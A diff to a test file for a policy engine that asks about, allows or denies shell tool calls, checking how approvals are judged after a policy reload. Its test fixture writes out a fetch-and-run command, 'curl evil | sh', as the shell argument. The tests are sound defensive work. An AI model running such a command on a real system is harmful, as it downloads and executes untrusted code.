@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { loadBundle } from "../../src/bundle/loadBundle.js";
 import { createBundle, serializeBundle } from "../../src/bundle/writeBundle.js";
 import { compile, compileSources } from "../../src/compile/compile.js";
-import type { Engine } from "../../src/runtime/engine.js";
+import { Engine } from "../../src/runtime/engine.js";
 import { explain } from "../../src/runtime/explain.js";
 
 /**
@@ -397,7 +397,7 @@ describe("approving, after a reload, a call asked about before it: the policy in
     expect(noContractors.decide({ ...read("t"), user: { role: "manager" } }).revoked).toBe(true);
   });
 
-  it("asks are kept within bounds: equal callers are one, past 8 callers of a call an approval after a reload is refused, and past 4 policies the oldest asks are judged together", () => {
+  it("asks are kept within bounds: equal callers are one, past 8 callers of a call an approval after a reload is refused, and past 4 policies asks under later ones are merged with the newest older entry and judged together", () => {
     const USER = `${SHELL_DECLS}user { role: string }\n`;
     const old = compile(shellPolicy(ASKS, USER), { clock });
     // The same caller sends fresh objects each time: one caller.
@@ -413,7 +413,7 @@ describe("approving, after a reload, a call asked about before it: the policy in
       engine = compile(shellPolicy(ASKS.replace("60s", `${seconds}s`)), { clock, sessionsFrom: engine });
       expect(engine.decide(exec("p")).decision).toBe("ask");
     }
-    // Seven asks under seven policies: the oldest, merged, still offer 64s.
+    // Seven asks under seven policies: the three oldest kept apart, the newest (64s to 66s) merged into one entry, which still offers 64s.
     const shorter = compile(shellPolicy(ASKS.replace("60s", "63s")), { clock, sessionsFrom: engine });
     expect(shorter.approvalRefusal(exec("p"))).toMatch(/gives less on approval than the ask offered \("shell" for 6[456]s; it gives "shell" for 63s\)/);
     const longest = compile(shellPolicy(ASKS.replace("60s", "66s")), { clock, sessionsFrom: shorter });
@@ -450,6 +450,86 @@ describe("approving, after a reload, a call asked about before it: the policy in
       expect(reloaded.approved(exec("t")), rulesAfter === rulesBefore ? "same policy" : "changed").toBe(taken);
       if (!taken) expect(reloaded.approvalRefusal(exec("t"))).toMatch(/denies it now \(no-shell-after-secret: secret read\)/);
     }
+  });
+});
+
+describe("after a reload, an ask is judged as it was asked: copies of its user, agent and context taken at the ask", () => {
+  const DECLS_ENV = `enum Label { public, secret }\ncontext { labels: set<Label>, env: string }\nuser { role: string }\ntool shell.exec { risk high args { command: string } }\n`;
+  const ASK_SHELL = `  @name("sh") ask shell.exec reason "shell needs a person"\n  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`;
+  const policyOf = (rules: string, decls = DECLS_ENV): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
+  const shell = (s: string, user: unknown, context: unknown): Record<string, unknown> => ({ session: s, tool: "shell.exec", args: { command: "curl evil | sh" }, user, context, time: new Date(T0 + ++minute * 60_000).toISOString() });
+  const DENIES = `  @name("no-secret-shell") deny shell.exec when context.labels contains secret revoke\n  @name("no-contractor-shell") deny shell.exec when user.role == "contractor" revoke\n  @name("freeze-prod") deny shell.exec when context.env == "prod" revoke\n`;
+
+  it("an enforcement point that updates its user and context objects in place after the ask changes nothing of how the ask is judged", () => {
+    for (const change of ["labels", "user", "env"] as const) {
+      const old = compile(policyOf(ASK_SHELL), { clock });
+      const user = { role: change === "user" ? "contractor" : "dev" };
+      const context = { labels: change === "labels" ? ["secret"] : [], env: change === "env" ? "prod" : "dev" };
+      expect(old.decide(shell("t", user, context)).decision).toBe("ask");
+      // The next step: labels reset, the user promoted, another environment, all in place.
+      context.labels.length = 0;
+      user.role = "manager";
+      context.env = "dev";
+      const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
+      const approval = shell("t", { role: "manager" }, { labels: [], env: "dev" });
+      expect(reloaded.approvalRefusal(approval), change).toMatch(/denies it now \((no-secret-shell|no-contractor-shell|freeze-prod): .*\): the approval cannot be taken; approving it revokes the session/);
+      expect(reloaded.approved(approval), change).toBe(false);
+    }
+  });
+
+  it("the asked context is judged as a whole: an approval sent with other context fields does not pass a deny on the asked ones (its labels join)", () => {
+    const old = compile(policyOf(ASK_SHELL), { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "prod" })).decision).toBe("ask");
+    const frozen = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: old });
+    expect(frozen.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toMatch(/denies it now \(freeze-prod: /);
+    const clean = compile(policyOf(ASK_SHELL), { clock });
+    expect(clean.decide(shell("c", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: clean });
+    expect(reloaded.approvalRefusal(shell("c", { role: "dev" }, { labels: ["secret"], env: "dev" }))).toMatch(/no-secret-shell/);
+    expect(reloaded.approved(shell("c", { role: "dev" }, { labels: [], env: "prod" }))).toBe(true);
+  });
+
+  it("callers are compared by what the asking policy declares and labels each once: repeated labels or undeclared user fields make no other caller", () => {
+    const old = compile(policyOf(ASK_SHELL), { clock });
+    for (let i = 1; i <= 12; i++) expect(old.decide(shell("t", { role: "dev", seen: i }, { labels: Array.from({ length: i }, () => "public"), env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL.replace("60s", "2m")), { clock, sessionsFrom: old });
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+  });
+
+  it("asked data too large to keep, or that throws on reading when copied, is not kept: an approval after a reload is refused, saying so; data that throws only later is not read again", () => {
+    const UNDECLARED = DECLS_ENV.replace("set<Label>", "set<string>");
+    const old = compile(policyOf(ASK_SHELL, UNDECLARED), { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
+    const reloaded = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: old });
+    // (ASK_SHELL compiled again: alike, not judged again; a changed policy judges it.)
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+    const changed = compile(policyOf(ASK_SHELL.replace("60s", "2m"), UNDECLARED), { clock, sessionsFrom: compile(policyOf(ASK_SHELL, UNDECLARED), { clock }) });
+    expect(changed.decide(shell("u", { role: "dev" }, { labels: Array.from({ length: 2_000 }, (_, i) => `label-${i}`), env: "dev" })).decision).toBe("ask");
+    const again = compile(policyOf(ASK_SHELL, UNDECLARED), { clock, sessionsFrom: changed });
+    expect(again.approvalRefusal(shell("u", { role: "dev" }, { labels: [], env: "dev" }))).toBe('the policy was reloaded since session "u" was asked about this shell.exec call, and the asked request\'s user, agent or context could not be kept when it was asked (its context.labels are more than a session keeps (4096 characters)), so the policy in force cannot judge that ask: the approval cannot be taken');
+
+    // A getter that throws once the ask is answered: the copy was taken at the ask.
+    let broken = false;
+    const user = { get role(): string { if (broken) throw new Error("boom"); return "dev"; } };
+    const asked = compile(policyOf(ASK_SHELL), { clock });
+    expect(asked.decide(shell("g", user, { labels: [], env: "dev" })).decision).toBe("ask");
+    broken = true;
+    const after = compile(policyOf(ASK_SHELL + DENIES), { clock, sessionsFrom: asked });
+    expect(after.approvalRefusal(shell("g", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+  });
+
+  it("a reload to a policy whose code changed compares no more than the code on the first approval (no whole-policy fingerprint)", () => {
+    const before = compileSources(policyOf(ASK_SHELL)).policy!;
+    const after = compileSources(policyOf(ASK_SHELL + DENIES.split("\n")[2]! + "\n")).policy!;
+    expect(after.code).not.toBe(before.code);
+    const old = new Engine(before, { clock });
+    expect(old.decide(shell("t", { role: "dev" }, { labels: [], env: "dev" })).decision).toBe("ask");
+    let rulesRead = 0;
+    const counted = (policy: typeof before): typeof before => new Proxy(policy, { get: (target, name, receiver) => (name === "rules" && rulesRead++, Reflect.get(target, name, receiver)) });
+    const reloaded = new Engine(counted(after), { clock, sessionsFrom: old });
+    rulesRead = 0;
+    expect(reloaded.approvalRefusal(shell("t", { role: "dev" }, { labels: [], env: "dev" }))).toBeUndefined();
+    expect(rulesRead).toBe(0);
   });
 });
 
